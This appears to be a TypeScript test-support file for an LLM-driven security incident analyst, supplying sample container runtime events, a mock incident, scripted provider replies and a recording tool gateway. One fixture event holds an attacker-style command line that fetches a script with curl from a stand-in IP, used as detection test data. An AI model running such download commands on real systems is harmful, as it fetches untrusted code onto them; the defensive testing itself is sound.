/**
 * Shared pieces of the LLM analyst tests: a client against the fake LLM
 * server, an incident to analyse, scripted answers in both wire protocols,
 * and an in-process ToolGateway (records the calls it receives).
 */
import { Registry } from 'prom-client';
import type { AnalyseInput, EventWire } from '../../src/agents/contracts.ts';
import { LlmProviderConfigSchema } from '../../src/llm/config.ts';
import { createLlmClient, type LlmClient } from '../../src/llm/index.ts';
import type { ToolSpec } from '../../src/llm/types.ts';
import type { ToolCallResult, ToolGateway } from '../../src/mcp/gateway.ts';
import type { FakeLlmServer, RecordedRequest, Reply } from '../support/fake-llm-server.ts';

export const API_KEY = 'sk-test-ANALYST-4c1d9e';
export const TRACE_ID = '4bf92f3577b34da6a3ce929d0e0e4736';

export async function clientFor(
  server: FakeLlmServer,
  kind: 'openai' | 'anthropic',
  overrides: Record<string, unknown> = {},
): Promise<LlmClient> {
  const cfg = LlmProviderConfigSchema.parse({
    kind,
    baseUrl: kind === 'openai' ? `${server.url}/v1` : server.url,
    model: kind === 'openai' ? 'gpt-4o-mini' : 'claude-3-5-haiku-latest',
    apiKeyEnv: 'FALCONER_TEST_LLM_KEY',
    maxRetries: 0,
    timeoutMs: 5_000,
    backoff: { baseMs: 1, maxMs: 2 },
    ...overrides,
  });
  return createLlmClient(cfg, { registry: new Registry(), env: { FALCONER_TEST_LLM_KEY: API_KEY } });
}

export const WORKLOAD = {
  key: 'prod-cluster/shop/web-7d9f/web',
  kind: 'pod' as const,
  host: 'node-1',
  cluster: 'prod-cluster',
  namespace: 'shop',
  pod: 'web-7d9f',
  container: 'web',
  containerId: 'abc123def456',
  image: 'registry.example/shop/web:1.4',
};

export function event(
  id: string,
  fields: Record<string, string | number | null> = {},
  over: Partial<EventWire> = {},
): EventWire {
  return {
    id,
    timeMs: 1_726_000_000_000 + Number(id.replace(/\D/g, '') || 0) * 1000,
    time: '2024-09-10T20:26:40.000Z',
    rule: 'Terminal shell in container',
    priority: 'Notice',
    priorityLevel: 5,
    source: 'syscall',
    hostname: 'node-1',
    tags: ['container', 'shell', 'mitre_execution', 'T1059'],
    output: 'A shell was spawned in a container',
    fields: {
      'proc.name': 'bash',
      'proc.cmdline': 'bash -i',
      'proc.pname': 'runc',
      'container.name': 'web',
      'k8s.ns.name': 'shop',
      'k8s.pod.name': 'web-7d9f',
      ...fields,
    },
    workload: WORKLOAD,
    ...over,
  };
}

export function incident(
  events: EventWire[] = [event('ev-1'), event('ev-2', { 'proc.cmdline': 'curl http://198.51.100.7/x.sh' })],
): AnalyseInput {
  return {
    incident: {
      id: 'inc-42',
      workload: events[0]?.workload ?? WORKLOAD,
      severity: 'medium',
      status: 'open',
      traceId: TRACE_ID,
      signals: [
        {
          id: 'sig-1',
          workload: events[0]?.workload ?? WORKLOAD,
          firstSeenMs: events[0]?.timeMs ?? 0,
          lastSeenMs: events.at(-1)?.timeMs ?? 0,
          eventIds: events.map((e) => e.id),
          maxScore: 0.71,
          rules: [...new Set(events.map((e) => e.rule))],
          priorityLevel: 5,
          count: events.length,
        },
      ],
    },
    events,
  };
}

export interface Answer {
  verdict: string;
  confidence: number;
  severity: string;
  techniques: string[];
  explanation: string;
  citedEventIds: string[];
  recommendedActions: string[];
  proposedRule: string | null;
}

export function answer(over: Partial<Answer> = {}): Answer {
  return {
    verdict: 'true_positive',
    confidence: 0.86,
    severity: 'high',
    techniques: ['T1059.004', 'T1105'],
    explanation: 'An interactive shell [event ev-1] downloaded a script [event ev-2].',
    citedEventIds: ['ev-1', 'ev-2'],
    recommendedActions: ['isolate-pod', 'annotate-pod'],
    proposedRule: null,
    ...over,
  };
}

/** A final answer as the provider sends it: OpenAI structured output text, Anthropic the forced answer tool. */
export function answerReply(kind: 'openai' | 'anthropic', a: unknown, usage = { in: 900, out: 120 }): Reply {
  if (kind === 'openai')
    return openAiReply({ content: typeof a === 'string' ? a : JSON.stringify(a) }, usage);
  return {
    kind: 'json',
    body: {
      id: 'msg_01Answer',
      type: 'message',
      role: 'assistant',
      model: 'claude-3-5-haiku-20241022',
      content:
        typeof a === 'string'
          ? [{ type: 'text', text: a }]
          : [{ type: 'tool_use', id: 'toolu_answer', name: 'falconer_analysis', input: a }],
      stop_reason: typeof a === 'string' ? 'end_turn' : 'tool_use',
      stop_sequence: null,
      usage: { input_tokens: usage.in, output_tokens: usage.out },
    },
  };
}

export function openAiReply(
  msg: {
    content?: string | null;
    toolCalls?: { id: string; name: string; args: unknown }[];
    finish?: string;
  },
  usage = { in: 900, out: 120 },
): Reply {
  return {
    kind: 'json',
    body: {
      id: 'chatcmpl-analyst',
      object: 'chat.completion',
      created: 1_726_000_000,
      model: 'gpt-4o-mini-2024-07-18',
      choices: [
        {
          index: 0,
          message: {
            role: 'assistant',
            content: msg.content ?? null,
            ...(msg.toolCalls
              ? {
                  tool_calls: msg.toolCalls.map((c) => ({
                    id: c.id,
                    type: 'function',
                    function: { name: c.name, arguments: JSON.stringify(c.args) },
                  })),
                }
              : {}),
            refusal: null,
          },
          finish_reason: msg.finish ?? (msg.toolCalls ? 'tool_calls' : 'stop'),
        },
      ],
      usage: { prompt_tokens: usage.in, completion_tokens: usage.out, total_tokens: usage.in + usage.out },
    },
  };
}

export function anthropicToolReply(calls: { id: string; name: string; args: unknown }[]): Reply {
  return {
    kind: 'json',
    body: {
      id: 'msg_01Tools',
      type: 'message',
      role: 'assistant',
      model: 'claude-3-5-haiku-20241022',
      content: [
        { type: 'text', text: 'Checking the workload.' },
        ...calls.map((c) => ({ type: 'tool_use', id: c.id, name: c.name, input: c.args })),
      ],
      stop_reason: 'tool_use',
      stop_sequence: null,
      usage: { input_tokens: 800, output_tokens: 60 },
    },
  };
}

/** Every string in a recorded request body, joined: what the provider received. */
export function bodyText(req: RecordedRequest): string {
  const out: string[] = [];
  const walk = (v: unknown): void => {
    if (typeof v === 'string') out.push(v);
    else if (Array.isArray(v)) v.forEach(walk);
    else if (typeof v === 'object' && v !== null) Object.values(v).forEach(walk);
  };
  walk(req.body);
  return out.join('\n');
}

/** The message texts of a request (system, user, tool, assistant), both wire protocols. */
export function messageTexts(req: RecordedRequest): string[] {
  const b = req.body as { system?: string; messages?: { content?: unknown }[] };
  const out: string[] = [];
  if (typeof b.system === 'string') out.push(b.system);
  for (const m of b.messages ?? []) {
    if (typeof m.content === 'string') out.push(m.content);
    else if (Array.isArray(m.content))
      for (const block of m.content as { text?: unknown; content?: unknown }[]) {
        if (typeof block.text === 'string') out.push(block.text);
        if (typeof block.content === 'string') out.push(block.content);
      }
  }
  return out;
}

export function nonceOf(req: RecordedRequest): string {
  const m = /nonce is "([a-f0-9]+)"/.exec(messageTexts(req).join('\n'));
  if (!m?.[1]) throw new Error('no fence nonce in the request');
  return m[1];
}

const SEARCH: ToolSpec = {
  name: 'events.search',
  description: 'Search stored events of a workload',
  parameters: {
    type: 'object',
    properties: {
      workloadKey: { type: 'string' },
      namespace: { type: 'string' },
      pod: { type: 'string' },
      namespaces: { type: 'array', items: { type: 'string' } },
      fields: { type: 'array' },
      limit: { type: 'integer' },
    },
  },
};
const INCIDENT_GET: ToolSpec = {
  name: 'incident.get',
  description: 'An incident with its timeline',
  parameters: { type: 'object', properties: { id: { type: 'string' } }, required: ['id'] },
};

/** An in-process ToolGateway: `events.search` answers with `events`, `incident.get` with a stub. */
export class RecordingGateway implements ToolGateway {
  readonly calls: { name: string; args: Record<string, unknown> }[] = [];
  closed = false;
  constructor(
    public events: EventWire[] = [],
    readonly extra: { text?: string } = {},
  ) {}

  async list(): Promise<ToolSpec[]> {
    return [SEARCH, INCIDENT_GET];
  }

  async call(name: string, args: Record<string, unknown>): Promise<ToolCallResult> {
    this.calls.push({ name, args });
    if (name === 'events.search')
      return {
        isError: false,
        text: this.extra.text ?? JSON.stringify({ events: this.events, truncated: false, scanned: 10 }),
      };
    if (name === 'incident.get')
      return { isError: false, text: JSON.stringify({ id: args.id, status: 'open' }) };
    return { isError: true, text: `unknown tool ${name}` };
  }

  async close(): Promise<void> {
    this.closed = true;
  }
}
